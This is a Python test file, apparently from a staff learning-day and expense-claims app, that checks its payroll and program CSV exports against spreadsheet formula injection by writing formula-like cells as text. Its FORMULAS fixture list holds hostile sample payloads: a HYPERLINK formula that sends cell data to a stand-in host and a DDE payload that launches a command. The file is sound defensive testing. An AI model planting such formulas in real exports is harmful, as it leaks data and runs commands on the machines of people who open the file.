"""Every CSV we write (the payroll export, the Program page's tables) goes through one guard: a
cell a spreadsheet would read as a formula (starting with = + - @, or a tab or carriage return)
is written as text, whoever typed it (a person's name, a team, a category, a description)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from learningday.claims.reports import approved_claims_csv
from learningday.db.models import ClaimState, Role
from policies.policy import Policy
from tests.web.conftest import NOW, RANGE, THURSDAY, add_claim, add_day, add_person, sign_in

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Payslip")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
ROOT = Path(__file__).resolve().parents[2]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: they start with a formula character (negative
    numbers are numbers, not formulas)."""
    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-\d+(\.\d+)?", cell)
    ]


def test_the_payroll_export_writes_no_live_formula_in_any_column(session: Session, engine: object) -> None:
    for i, hostile in enumerate(FORMULAS):
        person = add_person(session, f"p{i}@example.com", hostile, team=hostile)
        claim = add_claim(session, person, "12.50", ClaimState.approved, category=hostile)
        claim.description, claim.decided_at = hostile, NOW
    session.commit()

    rows = cells(approved_claims_csv(Policy(), NOW.year))

    assert len(rows) == 1 + len(FORMULAS)
    assert live_formulas(rows) == []
    names = [row[2] for row in rows[1:]]
    assert names == ["'" + hostile for hostile in FORMULAS]  # the name as typed, shown as text
    assert [row[7] for row in rows[1:]] == ["12.50"] * len(FORMULAS)  # amounts stay numbers


def test_every_program_csv_writes_no_live_formula(client: TestClient, session: Session) -> None:
    admin = add_person(session, "root@example.com", "Root", "Ops", role=Role.admin)
    for i, hostile in enumerate(FORMULAS):
        person = add_person(session, f"p{i}@example.com", f"Person {i}", team=hostile)
        add_day(session, person, THURSDAY, plan="Read a paper", summary="Read it", category=hostile)
        add_claim(session, person, "20.00", ClaimState.approved, category=hostile).decided_at = NOW
    session.commit()
    sign_in(client, admin)

    for table in ["participation", "teams", "categories", "flags", "claims", "budget"]:
        response = client.get(f"/program/{table}.csv", params=RANGE)
        assert response.status_code == 200, table
        rows = cells(response.text)
        assert live_formulas(rows) == [], (table, live_formulas(rows))
    teams = [row[0] for row in cells(client.get("/program/teams.csv", params=RANGE).text)[1:]]
    assert sorted(teams) == sorted("'" + hostile for hostile in FORMULAS)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "'-5"),
        ("Ada", "Ada"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (7, "7"),
        (-3, "-3"),
        (0.25, "0.25"),
        (Decimal("-12.5"), "-12.50"),
        (Decimal("39.9"), "39.90"),
        (dt.date(2026, 12, 3), "2026-12-03"),
    ],
)
def test_one_cell_rule_numbers_stay_numbers_and_text_that_starts_a_formula_becomes_text(
    value: object, written: str
) -> None:
    from learningday.csv_export import cell

    assert cell(value) == written


def test_nothing_in_the_tree_writes_csv_except_the_shared_module() -> None:
    writers = [
        str(path.relative_to(ROOT))
        for folder in ("learningday", "activities", "policies", "workflows", "bench")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["learningday/csv_export.py"]
